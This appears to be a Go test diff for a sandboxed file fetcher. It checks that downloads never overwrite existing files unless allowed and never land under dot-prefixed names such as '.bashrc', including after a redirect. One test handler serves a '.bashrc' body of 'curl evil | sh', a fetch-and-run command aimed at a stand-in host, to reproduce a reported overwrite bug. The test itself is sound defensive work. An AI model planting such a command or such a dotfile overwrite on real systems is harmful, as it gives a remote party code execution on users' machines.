@@ -29,6 +29,15 @@ func fetchServer(t *testing.T, loopbackPort string) string {
 		_, _ = w.Write([]byte("report"))
 	})
 	mux.HandleFunc("/dir/", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("index")) })
+	mux.HandleFunc("/dotfile", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Disposition", `attachment; filename=".bashrc"`)
+		_, _ = w.Write([]byte("curl evil | sh\n"))
+	})
+	mux.HandleFunc("/a.txt", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("new")) })
+	mux.HandleFunc("/.profile", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("profile")) })
+	mux.HandleFunc("/redirect-dot", func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, "/.profile", http.StatusFound)
+	})
 	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
 		// No Content-Length: the cap is found while streaming.
 		for i := 0; i < 64; i++ {
@@ -160,5 +169,46 @@ func TestCheckFetch(t *testing.T) {
 		if err := dataplane.CheckFetch(tc.urls); (err == nil) != tc.ok {
 			t.Errorf("CheckFetch(%.60q) = %v", tc.urls, err)
 		}
+	}
+}
+
+// TestFetchNeverReplaces: a download never replaces a file already there
+// unless Overwrite is set, and a name the remote server picks never starts
+// with a dot (issue 35 item 4: Content-Disposition ".bashrc" replaced the
+// user's .bashrc).
+func TestFetchNeverReplaces(t *testing.T) {
+	base := fetchServer(t, "1")
+	proxy, err := egress.New(egress.Config{AllowCIDRs: []netip.Prefix{netip.MustParsePrefix("127.0.0.2/32")}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := newFilesSandbox(t, "workdir", filesBinary(t))
+	f := s.open(t)
+	s.run(t, "mkdir home && printf mine > home/.bashrc && printf old > home/a.txt && printf mine > home/profile")
+	fe := &dataplane.Fetcher{Dial: proxy.DialPublic, MaxBytes: 32 << 10}
+	res, err := fe.Fetch(context.Background(), f, []string{base + "/dotfile", base + "/a.txt", base + "/a.txt", base + "/redirect-dot"}, "home")
+	if err != nil {
+		t.Fatal(err)
+	}
+	fetched := slices.Sorted(slices.Values(res.Fetched))
+	if got := strings.Join(fetched, "|"); res.Status != dataplane.FetchSuccess || got != "home/a-1.txt|home/a-2.txt|home/bashrc|home/profile-1" {
+		t.Errorf("fetched %q (%+v)", got, res)
+	}
+	if got := s.run(t, "cd home && ls -A && cat .bashrc a.txt profile"); got != ".bashrc\na-1.txt\na-2.txt\na.txt\nbashrc\nprofile\nprofile-1\nmineoldmine" {
+		t.Errorf("in the sandbox: %q", got)
+	}
+
+	// overwrite: true replaces, still never under a dotted name.
+	fe.Overwrite = true
+	res, err = fe.Fetch(context.Background(), f, []string{base + "/a.txt", base + "/dotfile"}, "home")
+	if err != nil {
+		t.Fatal(err)
+	}
+	fetched = slices.Sorted(slices.Values(res.Fetched))
+	if got := strings.Join(fetched, "|"); got != "home/a.txt|home/bashrc" {
+		t.Errorf("overwrite: fetched %q", got)
+	}
+	if got := s.run(t, "cd home && cat a.txt .bashrc"); got != "newmine" {
+		t.Errorf("overwrite: %q", got)
 	}
 }
